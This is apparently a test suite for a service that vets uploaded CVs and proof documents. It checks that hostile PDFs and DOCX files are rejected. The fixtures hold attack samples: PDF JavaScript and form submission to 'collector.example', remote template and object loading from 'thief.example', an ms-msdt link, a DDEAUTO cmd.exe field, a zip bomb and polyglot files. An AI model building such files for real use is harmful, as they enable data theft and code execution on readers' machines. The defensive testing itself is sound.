import { documentLimits } from '@prentice/contract';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { FileUse } from './content-checks.ts';
import { DocumentInspector } from './inspector.service.ts';

const documentInspector = new DocumentInspector();
const sentence = 'Experience with laboratory work, statistics and writing reports in two languages.';

/** A small PDF with so many pages, each with one line of text. */
function pdf(pages: number, text: string, extra = ''): Uint8Array {
  const objects: string[] = ['<< /Type /Catalog /Pages 2 0 R >>'];
  const kids = Array.from({ length: pages }, (_, index) => `${4 + index * 2} 0 R`).join(' ');
  objects.push(`<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`);
  objects.push('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  for (let position = 0; position < pages; position++) {
    const stream = `BT /F1 12 Tf 72 700 Td (${text}) Tj ET`;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + position * 2} 0 R >>`,
    );
    objects.push(`<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`);
  }
  let file = '%PDF-1.4\n';
  const offsets = objects.map((body, index) => {
    const offset = file.length;
    file += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const start = file.length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${extra} >>\nstartxref\n${start}\n%%EOF`;
  return Buffer.from(file, 'latin1');
}

const document = (text: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;
const types =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const rels =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const docx = (text: string, more: Record<string, Uint8Array> = {}): Uint8Array =>
  zipSync({
    '[Content_Types].xml': strToU8(types),
    '_rels/.rels': strToU8(rels),
    'word/document.xml': strToU8(document(text)),
    ...more,
  });

const refusal = async (bytes: Uint8Array, use: FileUse = 'text'): Promise<string> =>
  documentInspector.inspect(bytes, use).then(
    () => 'accepted',
    (error: { code: string }) => error.code,
  );

describe('inspection of documents', () => {
  it('accepts a PDF with text and counts its pages', async () => {
    expect(await documentInspector.inspect(pdf(2, sentence))).toEqual({ mediaType: 'application/pdf', pages: 2 });
  });
  it('accepts DOCX and plain text', async () => {
    expect(await documentInspector.inspect(docx(sentence))).toMatchObject({ pages: null });
    expect(await documentInspector.inspect(strToU8(sentence))).toEqual({ mediaType: 'text/plain', pages: null });
  });
  it('refuses more than ten pages', async () => {
    expect(await refusal(pdf(documentLimits.cvPages + 1, sentence))).toBe('FILE_TOO_LONG');
  });
  it('refuses a PDF without text, which is a scan', async () => {
    expect(await refusal(pdf(1, ''))).toBe('FILE_NO_TEXT');
    expect(await refusal(new Uint8Array())).toBe('FILE_NO_TEXT');
  });
  it('accepts scanned and long proofs, and refuses files that only look like one', async () => {
    expect(await refusal(pdf(1, ''), 'proof')).toBe('accepted');
    expect(await refusal(pdf(documentLimits.cvPages + 5, ''), 'proof')).toBe('accepted');
    expect(await refusal(strToU8(sentence), 'proof')).toBe('FILE_TYPE');
    expect(await refusal(docx(sentence), 'proof')).toBe('FILE_TYPE');
    expect(await refusal(pdf(1, sentence, '/Encrypt 99 0 R'), 'proof')).toBe('FILE_ENCRYPTED');
  });
  it('refuses an encrypted PDF', async () => {
    expect(await refusal(pdf(1, sentence, '/Encrypt 99 0 R'))).toBe('FILE_ENCRYPTED');
  });
  it('refuses a PDF that runs scripts or sends what is typed into it', async () => {
    expect(await refusal(pdf(1, sentence, '/OpenAction << /S /JavaScript /JS (app.alert) >>'))).toBe('FILE_REJECTED');
    const sends = '/AA << /WC << /S /SubmitForm /F (http://collector.example) >> >>';
    expect(await refusal(pdf(1, sentence, sends))).toBe('FILE_REJECTED');
  });
  it('refuses files that are not documents, whatever their name', async () => {
    expect(await refusal(Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]))).toBe('FILE_TYPE');
    expect(await refusal(zipSync({ 'a.txt': strToU8('not a document') }))).toBe('FILE_TYPE');
  });
  it('refuses a broken PDF', async () => {
    expect(await refusal(Buffer.from('%PDF-1.4\nnothing of use', 'latin1'))).toBe('FILE_CORRUPT');
  });
  it('refuses a DOCX that unpacks to much more than it is, without unpacking it', async () => {
    const bomb = docx(sentence, { 'word/media/zeros.xml': new Uint8Array(80 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(300_000);
    expect(await refusal(bomb)).toBe('FILE_REJECTED');
  });
  it('refuses a DOCX with macros', async () => {
    expect(await refusal(docx(sentence, { 'word/vbaProject.bin': strToU8('macro') }))).toBe('FILE_REJECTED');
  });

  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const related = (attributes: string): string =>
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" ${attributes}/></Relationships>`;
  const withRelationship = (attributes: string): Promise<string> =>
    refusal(docx(sentence, { 'word/_rels/settings.xml.rels': strToU8(related(attributes)) }));
  it.each([
    `Type="${office}/attachedTemplate" Target="https://thief.example/t.dotm" TargetMode="External"`,
    `Type="${office}/attachedTemplate" Target="file://thief.example/t.dotm" TargetMode="External"`,
    `Type="${office}/attachedTemplate" Target="\\\\thief.example\\t.dotm" TargetMode="External"`,
    `TargetMode='External' Target='http://thief.example/1.png' Type='${office}/image'`,
    `Type="${office}/oleObject" Target="http://thief.example/o" TargetMode="&#69;xternal"`,
    `Type="${office}/frame" Target="file:///etc/passwd" TargetMode="External"`,
    `Type="${office}/hyperlink" Target="file://thief.example/share" TargetMode="External"`,
    `Type="${office}/hyperlink" Target="ms-msdt:/id" TargetMode="External"`,
  ])('refuses a DOCX that fetches something from elsewhere when it is opened: %s', async (attributes) => {
    expect(await withRelationship(attributes)).toBe('FILE_REJECTED');
  });
  it.each([
    `Type="${office}/hyperlink" Target="https://me.example/?a=1&amp;b=2" TargetMode="External"`,
    `Type="${office}/hyperlink" Target="mailto:me@people.example" TargetMode="External"`,
    `Type="${office}/attachedTemplate" Target="file:///C:\\Users\\me\\Resume.dotx" TargetMode="External"`,
    `Type="${office}/image" Target="media/image1.png"`,
  ])('accepts a DOCX with a link or what belongs to it: %s', async (attributes) => {
    expect(await withRelationship(attributes)).toBe('accepted');
  });
  it('refuses a DOCX whose relationships are written so that only some programs read them', async () => {
    const text = related(`Type="${office}/image" Target="http://thief.example/1.png" TargetMode="External"`);
    const wide = Buffer.from(`\ufeff${text}`, 'utf16le');
    expect(await refusal(docx(sentence, { 'word/_rels/document.xml.rels': wide }))).toBe('FILE_REJECTED');
  });
  it('refuses a DOCX with a field that fetches something from elsewhere', async () => {
    const field = (text: string) => strToU8(`<w:p><w:r><w:instrText>${text}</w:instrText></w:r></w:p>`);
    expect(await refusal(docx(sentence, { 'word/header1.xml': field(' DDEAUTO c:\\\\cmd.exe') }))).toBe(
      'FILE_REJECTED',
    );
    expect(await refusal(docx(sentence, { 'word/header1.xml': field(' PAGE ') }))).toBe('accepted');
  });

  it('refuses a PDF that is another file as well', async () => {
    const good = pdf(1, sentence);
    const zip = zipSync({ 'payload.txt': strToU8('payload') });
    const page = strToU8('<html><script>alert(1)</script></html>');
    const joined = (...parts: Uint8Array[]) => new Uint8Array(Buffer.concat(parts));
    const [empty, junk] = [new Uint8Array(2_000), strToU8('x'.repeat(2_000))];
    for (const other of [joined(page, good), joined(good, zip), joined(zip, good), joined(good, junk)])
      expect(await refusal(other)).toBe('FILE_REJECTED');
    expect(await refusal(joined(good, zip, strToU8('\n%%EOF')))).toBe('FILE_REJECTED');
    for (const same of [joined(strToU8('\r\n '), good), joined(good, strToU8('\n')), joined(good, empty)])
      expect(await refusal(same)).toBe('accepted');
  });
  it('extracts the text of a PDF and a DOCX', async () => {
    const skill = { kind: 'skill', quote: 'Skills: Python', id: 'python', label: 'Python', matched: 'Python' };
    expect((await documentInspector.read(pdf(1, 'Skills: Python'))).findings).toEqual([skill]);
    expect((await documentInspector.read(docx('Skills: Python'))).findings).toEqual([skill]);
  });
});
